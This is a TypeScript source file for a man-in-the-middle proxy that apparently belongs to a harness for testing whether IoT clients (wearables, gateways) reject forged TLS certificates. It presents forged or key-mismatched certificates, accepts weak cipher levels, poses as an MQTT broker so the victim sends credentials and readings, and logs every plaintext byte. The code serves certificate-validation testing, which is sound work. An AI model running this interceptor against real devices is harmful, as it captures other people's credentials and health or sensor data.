/**
 * MITM proxy role: sits on a link (wearable→cloud, gateway→cloud), accepts the victim's TLS with
 * a certificate an attack supplies (a forged one from certs/forged-catalogue.ts), and records
 * everything: the ClientHello, the handshake outcome with the client's alert, and every
 * plaintext byte it obtained (docs/architecture.md §3 Roles).
 *
 * Without a genuine client identity for the cloud (mutual TLS), it cannot connect upstream, so it
 * impersonates the broker: it answers CONNECT, PUBLISH and PING itself — enough for the victim
 * to hand over its credentials and readings. With an identity it relays upstream instead.
 */
import { createServer as createNetServer, type AddressInfo, type Server as NetServer, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { createSecureContext, TLSSocket, type SecureContext } from 'node:tls';
import mqttPacket from 'mqtt-packet';
import { parseClientHello } from '../analysis/tls-client-hello.ts';
import { ObservationLog } from './observation-log.ts';
import { noEvidence, type EvidenceSink } from './evidence.ts';
import type { AttackContext, MitmAttack, ServerCredential } from './mitm-attacks.ts';
import { connectTls } from './tls-connect.ts';
import type { ConnectionOptions } from 'node:tls';
import { createPrivateKey, X509Certificate } from 'node:crypto';
import { TlsImpostorProcess } from './tls-impostor-process.ts';
import { stopListener } from '../links/stop-listener.ts';

export type MitmObservationKind = 'listening' | 'client-hello' | 'handshake-complete' | 'handshake-failed' | 'plaintext' | 'mqtt-packet' | 'attack' | 'upstream' | 'closed';

export interface MitmProxyConfig {
  readonly name?: string;
  readonly listen: { readonly host: string; readonly port: number };
  readonly attacks: readonly MitmAttack[];
  /** Relay upstream with this TLS client configuration; absent = impersonate the broker. */
  readonly upstream?: { readonly host: string; readonly port: number; readonly tls: ConnectionOptions };
  /** A victim that neither completes nor aborts its handshake is cut off after this long. */
  readonly handshakeTimeoutMs?: number;
  readonly evidence?: EvidenceSink;
  /** Where the Go impostor (replaced-key case) appends its TLS secrets. */
  readonly impostorKeyLogFile?: string;
}

export class MitmProxy {
  readonly log: ObservationLog<MitmObservationKind>;
  readonly #config: MitmProxyConfig;
  readonly #sockets = new Set<Socket>();
  readonly #ctx: AttackContext;
  #evidence: EvidenceSink = noEvidence;
  #impostor: TlsImpostorProcess | undefined;
  #net: NetServer | undefined;
  #secureContext: SecureContext | undefined;

  constructor(config: MitmProxyConfig) {
    const credentials = config.attacks.filter((a) => a.serverCredential);
    if (credentials.length !== 1) {
      throw new Error(`mitm-proxy: exactly one attack must supply the certificate to present (found ${credentials.length}: ${credentials.map((a) => a.name).join(', ') || 'none'}); add presentForgedCertificate(...)`);
    }
    this.#config = config;
    this.log = new ObservationLog(config.name ?? 'mitm-proxy');
    this.#ctx = { note: (summary, detail = {}) => this.log.record('attack', summary, detail) };
  }

  #credential(): ServerCredential {
    const attack = this.#config.attacks.find((a) => a.serverCredential);
    return (attack?.serverCredential?.() as ServerCredential);
  }

  async start(): Promise<{ host: string; port: number }> {
    const credential = this.#credential();
    const { evidence = noEvidence } = this.#config;
    if (!keyBelongsToCertificate(credential)) return this.#startImpostor(credential);
    try {
      this.#secureContext = createSecureContext({
        cert: credential.certChainPem,
        key: credential.keyPem,
        minVersion: 'TLSv1.2',
        // An attacker happily serves weak material a modern OpenSSL would refuse to load.
        ...(credential.legacySecurityLevel ? { ciphers: 'DEFAULT:@SECLEVEL=0' } : {}),
      });
    } catch (err) {
      throw new Error(`mitm-proxy: cannot load the forged certificate/key (${(err as Error).message}); if it is deliberately weak, set legacySecurityLevel`);
    }
    this.#evidence = evidence;

    const net = createNetServer({ noDelay: true }, (socket) => this.#accept(socket));
    await new Promise<void>((resolve, reject) => {
      net.once('error', (err: NodeJS.ErrnoException) => reject(new Error(`mitm-proxy: cannot listen on ${this.#config.listen.host}:${this.#config.listen.port} (${err.code ?? err.message})`)));
      net.listen(this.#config.listen.port, this.#config.listen.host, () => resolve());
    });
    this.#net = net;
    const a = net.address() as AddressInfo;
    this.log.record('listening', `intercepting on ${a.address}:${a.port} (${this.#config.attacks.map((x) => x.name).join(', ')})`, { host: a.address, port: a.port });
    return { host: a.address, port: a.port };
  }

  /**
   * Read the ClientHello in clear, then run the server side of TLS over a stream we feed
   * ourselves. (A tls.Server bound to the raw socket reads the kernel handle directly, so bytes
   * already read for inspection would be lost.)
   */
  #accept(socket: Socket): void {
    this.#sockets.add(socket);
    socket.once('close', () => this.#sockets.delete(socket));
    socket.on('error', () => undefined);
    let handshakeDone = false;
    const timer = setTimeout(() => {
      if (handshakeDone) return;
      this.log.record('handshake-failed', 'victim neither completed nor aborted the handshake in time; cut off', { message: 'timeout', code: 'TIMEOUT' });
      socket.destroy();
    }, this.#config.handshakeTimeoutMs ?? 10_000);
    const wire = new Duplex({
      read: () => undefined,
      write: (chunk: Buffer, _enc, done) => (socket.destroyed ? done() : socket.write(chunk, () => done())),
      final: (done) => {
        socket.end();
        done();
      },
      destroy: (_err, done) => {
        socket.destroy();
        done(null);
      },
    });
    let first = true;
    socket.on('data', (chunk: Buffer) => {
      if (first) {
        first = false;
        this.#clientHello(chunk);
      }
      wire.push(chunk);
    });
    socket.on('end', () => wire.push(null));
    socket.on('close', () => {
      wire.destroy();
      if (handshakeDone) return;
      // Node's TLS client checks the certificate after OpenSSL's handshake and, refusing it,
      // just closes the connection: no alert, but a refusal all the same.
      handshakeDone = true;
      clearTimeout(timer);
      const failure = { message: 'the victim closed the connection during the handshake without an alert (it refused the certificate)', code: 'CLOSED_WITHOUT_ALERT' };
      this.log.record('handshake-failed', `victim's TLS handshake failed: ${failure.message}`, failure);
      for (const a of this.#config.attacks) a.onHandshakeFailed?.(failure, this.#ctx);
    });
    const victim = new TLSSocket(wire, {
      isServer: true,
      secureContext: this.#secureContext as SecureContext,
      // Ask for the victim's certificate so an mTLS client proceeds; accept anything: the
      // attacker wants the session, not an authenticated peer.
      requestCert: true,
      rejectUnauthorized: false,
    });
    this.#evidence.tlsEndpoint(this.log.role, victim);
    victim.once('secure', () => {
      handshakeDone = true;
      clearTimeout(timer);
      this.#intercepted(victim);
    });
    victim.on('error', (err: NodeJS.ErrnoException) => {
      if (handshakeDone) return;
      handshakeDone = true;
      clearTimeout(timer);
      const failure = { message: err.message, ...(err.code ? { code: err.code } : {}) };
      this.log.record('handshake-failed', `victim's TLS handshake failed: ${err.message}`, failure);
      for (const a of this.#config.attacks) a.onHandshakeFailed?.(failure, this.#ctx);
      socket.destroy();
    });
  }

  #clientHello(bytes: Buffer): void {
    const parsed = parseClientHello(bytes);
    if (parsed.ok) {
      const h = parsed.hello;
      this.log.record('client-hello', `ClientHello${h.serverName ? ` for ${h.serverName}` : ''}: ${h.cipherSuites.length} suites`, { hello: h }, bytes);
      for (const a of this.#config.attacks) a.onClientHello?.(h, this.#ctx);
    } else {
      this.log.record('client-hello', `no parsable ClientHello: ${parsed.reason}`, { reason: parsed.reason }, bytes);
    }
  }

  #intercepted(victim: TLSSocket): void {
    const cn = victim.getPeerCertificate()?.subject?.CN;
    this.#handshakeComplete({ protocol: victim.getProtocol() ?? '', cipher: victim.getCipher().standardName, ...(cn ? { clientCertificateCn: String(cn) } : {}) });
    this.#readPlaintext(victim);
  }

  #handshakeComplete(info: { protocol: string; cipher: string; clientCertificateCn?: string }): void {
    this.log.record('handshake-complete', `victim completed TLS (${info.protocol}) with the forged certificate`, info);
    for (const a of this.#config.attacks) a.onHandshakeComplete?.(info, this.#ctx);
  }

  /** Read the victim's plaintext (MQTT), relay it or answer as the broker. */
  #readPlaintext(victim: Socket | TLSSocket): void {
    victim.on('error', () => undefined);

    const upstream = this.#config.upstream ? connectTls(this.#config.upstream.host, this.#config.upstream.port, this.#config.upstream.tls) : undefined;
    if (upstream) {
      this.#sockets.add(upstream);
      upstream.on('error', (err) => this.log.record('upstream', `upstream failed: ${err.message}`, { message: err.message }));
      upstream.on('data', (b: Buffer) => victim.write(b));
      upstream.on('close', () => victim.destroy());
    }
    const parser = mqttPacket.parser({ protocolVersion: 4 });
    parser.on('packet', (packet: mqttPacket.Packet) => {
      const payload = packet.cmd === 'publish' ? Buffer.from(packet.payload as Buffer) : undefined;
      this.log.record('mqtt-packet', `read ${packet.cmd.toUpperCase()}${packet.cmd === 'publish' ? ` ${packet.topic}` : ''}`, { cmd: packet.cmd, topic: packet.cmd === 'publish' ? packet.topic : undefined, clientId: packet.cmd === 'connect' ? packet.clientId : undefined }, payload);
      for (const a of this.#config.attacks) a.onMqttPacket?.(packet, this.#ctx);
      if (!upstream) this.#impersonateBroker(victim, packet);
    });
    parser.on('error', (err: Error) => this.log.record('plaintext', `bytes that are not MQTT: ${err.message}`, { message: err.message }));
    victim.on('data', (b: Buffer) => {
      this.log.record('plaintext', `${b.length} plaintext bytes from the victim`, { bytes: b.length }, b);
      if (upstream) upstream.write(b);
      parser.parse(b);
    });
    victim.on('close', () => {
      this.log.record('closed', 'victim connection closed');
      upstream?.destroy();
    });
  }

  /** Answer as a broker would (MQTT 3.1.1 §3.2, §3.4, §3.9, §3.13) so the victim keeps talking. */
  #impersonateBroker(victim: Socket, packet: mqttPacket.Packet): void {
    const reply = (p: mqttPacket.Packet) => victim.write(mqttPacket.generate(p));
    if (packet.cmd === 'connect') reply({ cmd: 'connack', returnCode: 0, sessionPresent: false });
    else if (packet.cmd === 'publish' && packet.qos === 1 && packet.messageId !== undefined) reply({ cmd: 'puback', messageId: packet.messageId });
    else if (packet.cmd === 'subscribe') reply({ cmd: 'suback', messageId: packet.messageId, granted: packet.subscriptions.map((s) => s.qos) });
    else if (packet.cmd === 'pingreq') reply({ cmd: 'pingresp' });
    else if (packet.cmd === 'disconnect') victim.end();
  }

  /**
   * Wait (bounded) until the proxy has its own verdict on the victim's attempt: a failed
   * handshake, or a PUBLISH it read. Called once the victim has its verdict; never throws.
   */
  async verdict(timeoutMs: number): Promise<void> {
    await this.log.waitFor("the proxy's verdict", (p) => p.kind === 'handshake-failed' || (p.kind === 'mqtt-packet' && p.detail.cmd === 'publish'), timeoutMs).catch(() => undefined);
  }

  /** Every plaintext byte the proxy obtained from victims. */
  plaintextBytes(): number {
    return this.log.ofKind('plaintext').reduce((n, o) => n + (o.bytes?.length ?? 0), 0);
  }

  /**
   * replaced-key: OpenSSL will not load a key that does not belong to the certificate, so the
   * handshake is played by Go's crypto/tls (tls-impostor), which signs CertificateVerify with
   * the attacker's key (RFC 8446 §4.4.3) and leaves the verdict to the client.
   */
  async #startImpostor(credential: ServerCredential): Promise<{ host: string; port: number }> {
    const plain = createNetServer({ noDelay: true }, (socket) => {
      this.#sockets.add(socket);
      socket.once('close', () => this.#sockets.delete(socket));
      this.#readPlaintext(socket);
    });
    await new Promise<void>((r) => plain.listen(0, '127.0.0.1', () => r()));
    this.#net = plain;
    const impostor = await TlsImpostorProcess.start({
      certChainPem: credential.certChainPem,
      keyPem: credential.keyPem,
      plain: { host: '127.0.0.1', port: (plain.address() as AddressInfo).port },
      handshakeTimeoutMs: this.#config.handshakeTimeoutMs ?? 10_000,
      ...(this.#config.impostorKeyLogFile ? { keyLogFile: this.#config.impostorKeyLogFile } : {}),
      onEvent: (e) => {
        if (e.event === 'client-hello') this.log.record('client-hello', `ClientHello${e.serverName ? ` for ${String(e.serverName)}` : ''} (seen by the Go impostor)`, { serverName: e.serverName, cipherSuites: e.cipherSuites });
        if (e.event === 'handshake') this.#handshakeComplete({ protocol: String(e.version), cipher: String(e.cipher), ...(e.clientCertificateCn ? { clientCertificateCn: String(e.clientCertificateCn) } : {}) });
        if (e.event === 'handshake-failed') {
          const failure = { message: String(e.error) };
          this.log.record('handshake-failed', `victim's TLS handshake failed: ${failure.message}`, failure);
          for (const a of this.#config.attacks) a.onHandshakeFailed?.(failure, this.#ctx);
        }
      },
    });
    this.#impostor = impostor;
    this.log.record('listening', `intercepting on ${impostor.address.host}:${impostor.address.port} with the Go impostor (key does not match the certificate)`, { ...impostor.address, impostor: true });
    return impostor.address;
  }

  async stop(): Promise<void> {
    await this.#impostor?.stop();
    this.#impostor = undefined;
    const net = this.#net;
    this.#net = undefined;
    await stopListener(net, this.#sockets);
  }
}

/** Does the private key belong to the leaf certificate? (OpenSSL refuses to serve it otherwise.) */
export function keyBelongsToCertificate(credential: ServerCredential): boolean {
  try {
    return new X509Certificate(credential.certChainPem).checkPrivateKey(createPrivateKey(credential.keyPem));
  } catch {
    return false;
  }
}
